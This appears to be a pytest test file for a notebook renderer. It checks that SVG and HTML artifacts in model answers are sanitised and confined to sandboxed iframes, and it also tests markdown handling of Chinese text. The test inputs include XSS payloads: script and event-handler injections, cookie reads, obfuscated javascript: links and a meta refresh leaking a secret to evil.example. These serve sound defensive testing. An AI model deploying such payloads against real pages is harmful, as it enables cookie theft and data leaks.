"""Artifacts: SVG shown sanitized, HTML only inside a sandboxed frame, every artifact reachable and savable."""

from __future__ import annotations

import html
import re

import pytest

from glm_nb.render import Artifact, extract_artifacts, iframe_html, markdown_html

ANSWER = """Here is a drawing:

```svg
<svg width="10"><circle r="4" onclick="steal()"/></svg>
```

and a page:

```html
<button onclick="document.title='x'">hi</button><script>parent.document.body.innerHTML=''</script>
```

```python
print("not an artifact")
```
"""


def test_svg_and_html_blocks_become_artifacts_in_order():
    artifacts = extract_artifacts(ANSWER)

    assert [a.kind for a in artifacts] == ["svg", "html"]
    assert "steal" in artifacts[0].source and "steal" not in artifacts[0].html()


def test_html_asked_to_run_runs_only_in_a_sandbox_without_same_origin():
    frame = iframe_html("<script>alert(document.cookie)</script>", scripts=True)

    iframe = re.search(r"<iframe[^>]*>", frame).group(0)
    assert 'sandbox="allow-scripts"' in iframe
    assert "allow-same-origin" not in frame
    assert "<script>alert" not in frame.split("<iframe", 1)[0]  # nothing of the model's outside the frame
    wrapper = html.unescape(re.search(r'srcdoc="([^"]*)"', iframe).group(1))
    inner = re.search(r"<iframe[^>]*>", wrapper).group(0)
    assert 'sandbox="allow-scripts"' in inner and "allow-same-origin" not in wrapper
    assert "<script>alert" not in wrapper  # the model's page is one frame further in
    srcdoc = html.unescape(re.search(r'srcdoc="([^"]*)"', inner).group(1))
    assert "<script>alert(document.cookie)</script>" in srcdoc
    assert "Content-Security-Policy" in srcdoc and "default-src 'none'" in srcdoc


@pytest.mark.parametrize("scripts", [False, True])
def test_the_model_page_cannot_navigate_its_frame_to_leak_data(scripts):
    """A page can always navigate itself (`location = url`, `<meta http-equiv=refresh>`), whatever its own CSP;
    the policy of the document around its frame decides: `frame-src 'none'` refuses every such navigation."""
    source = '<meta http-equiv="refresh" content="0;url=https://evil.example/?secret=1"><script>location="x"</script>'
    frame = re.search(r"<iframe[^>]*>", iframe_html(source, scripts=scripts)).group(0)

    wrapper = html.unescape(re.search(r' srcdoc="([^"]*)"', frame).group(1))

    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', wrapper).group(1)
    assert wrapper.startswith('<meta http-equiv="Content-Security-Policy"')  # before anything else
    assert "frame-src 'none'" in policy and "default-src 'none'" in policy
    assert "evil.example" not in wrapper.split("srcdoc=", 1)[0]


def test_markdown_escapes_raw_html_and_renders_artifacts_in_place():
    page = markdown_html(ANSWER)

    assert "<script>parent" not in page.split("<iframe", 1)[0]
    assert 'onclick="' not in re.sub(r'srcdoc="[^"]*"', "", page)  # as a live attribute: nowhere
    assert 'sandbox=""' in page and "glm-nb-run-scripts" in page  # its script runs only when asked
    assert '<code class="language-python">' in page


def test_markdown_neither_links_javascript_nor_loads_images():
    page = markdown_html('[x](javascript:alert(1)) ![pixel](https://tracker.example/p.png) <img src="y">')

    assert 'href="javascript' not in page
    assert "<img" not in page
    assert "[image: pixel]" in page


def test_a_research_source_on_disk_shows_its_title_and_path_not_its_markdown():
    # A report's sources are local files: markdown-it refuses file: links, which then showed as markdown source.
    page = markdown_html('- [The KV cache](file:///docs/kv%20cache.md "ignored") [x](javascript:alert(1))')

    assert '<a title="/docs/kv cache.md">The KV cache</a>' in page  # nowhere to go: a web page opens no local file
    assert "](file:" not in page and "href" not in page
    assert "[x](javascript:alert(1))" in page  # still refused: shown as written


def test_an_artifact_saves_its_source(tmp_path):
    artifact = extract_artifacts(ANSWER)[0]

    path = artifact.save(tmp_path)

    assert path.name == "artifact.svg"
    assert path.read_text() == artifact.source


def test_artifacts_saved_into_one_folder_each_keep_their_own_file(tmp_path):
    first, second = extract_artifacts("```svg\n<svg><circle r='1'/></svg>\n```\n\n```svg\n<svg><rect/></svg>\n```")
    (tmp_path / "artifact-2.svg").write_text("kept")  # a file already there is never written over

    paths = [first.save(tmp_path), second.save(tmp_path)]

    assert [p.name for p in paths] == ["artifact.svg", "artifact-3.svg"]
    assert [p.read_text() for p in paths] == [first.source, second.source]
    assert (tmp_path / "artifact-2.svg").read_text() == "kept"


def test_broken_svg_is_shown_as_escaped_source_with_a_note():
    artifact = Artifact.from_block("svg", "<svg><rect></svg><script>x</script>")

    assert artifact.error and not artifact.safe
    assert "&lt;script&gt;" in artifact.html() and "<script>" not in artifact.html()


def test_svg_artifact_bundle_offers_sanitized_image():
    bundle = Artifact.from_block("svg", '<svg><circle r="1" onload="x()"/></svg>')._repr_mimebundle_()

    assert "onload" not in bundle["image/svg+xml"]
    assert bundle["text/plain"].startswith("<svg>")


def _frames(shown: str) -> tuple[str, str]:
    """The outer frame's tag and the inner (model's) frame's tag inside its wrapper."""
    outer = re.search(r"<iframe[^>]*>", shown).group(0)
    wrapper = html.unescape(re.search(r' srcdoc="([^"]*)"', outer).group(1))
    return outer, re.search(r"<iframe[^>]*>", wrapper).group(0)


def test_an_html_artifact_with_a_script_gets_no_allow_scripts_until_asked():
    source = "<p>card</p><script>document.title = 'ran'</script>"

    shown = Artifact.from_block("html", source).html()
    asked = iframe_html(source, scripts=True)

    outer, inner = _frames(shown)
    assert 'sandbox=""' in outer and 'sandbox=""' in inner and "allow-scripts" not in outer + inner
    assert re.search(r'<button[^>]*class="glm-nb-run-scripts"', shown) and "Run scripts" in shown
    assert "could send data out" in shown  # what running means, next to the button
    outer, inner = _frames(asked)
    assert 'sandbox="allow-scripts"' in outer and 'sandbox="allow-scripts"' in inner
    assert "allow-same-origin" not in shown + asked


@pytest.mark.parametrize(
    "source",
    [
        "<script>x()</script>",
        '<img src="data:," onerror="x()">',
        "<svg/onload=x()>",
        '<a href=" java\tscript:x()">a</a>',
        '<a href="&#106;avascript:x()">a</a>',
        '<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>',
    ],
)
def test_every_way_html_runs_script_gets_the_run_button(source):
    assert "glm-nb-run-scripts" in Artifact.from_block("html", source).html()


def test_an_html_artifact_without_scripts_renders_static_with_no_button():
    source = '<button style="color:blue">Save</button><table><tr><td>1</td></tr></table>'

    shown = Artifact.from_block("html", source).html()

    outer, inner = _frames(shown)
    assert 'sandbox=""' in outer and 'sandbox=""' in inner
    assert "glm-nb-run-scripts" not in shown and "<script" not in shown  # nothing of ours runs either


@pytest.mark.parametrize(
    ("text", "strong"),
    [
        ("**注意：**这是一个测试。", "注意："),  # full-width punctuation inside, a Chinese character after
        ("他说**“重点”**后面还有。", "“重点”"),
        ("这是**重要**的内容", "重要"),
        ("**我可以强调这个`code`**吗？", "我可以强调这个<code>code</code>"),
    ],
)
def test_markdown_emphasis_works_beside_chinese_punctuation(text, strong):
    # CommonMark's flanking rule leaves `**注意：**这是` as literal asterisks; GLM writes it all the time.
    page = markdown_html(text)

    assert f"<strong>{strong}</strong>" in page and "**" not in page


def test_markdown_emphasis_still_needs_flanking_in_english():
    assert markdown_html("a ** b ** c") == "<p>a ** b ** c</p>\n"
    assert markdown_html("**(note)**x") == "<p>**(note)**x</p>\n"  # CommonMark's reading, kept for non-CJK text


def test_a_line_break_between_chinese_characters_renders_as_no_space():
    # A browser draws a soft line break as a space, which Chinese text does not have between its words.
    page = markdown_html("北京今天晴，\n气温二十一度。\nBeijing is\nsunny. 한국어\n문장")

    assert page == "<p>北京今天晴，气温二十一度。\nBeijing is\nsunny. 한국어\n문장</p>\n"  # Korean spaces its words
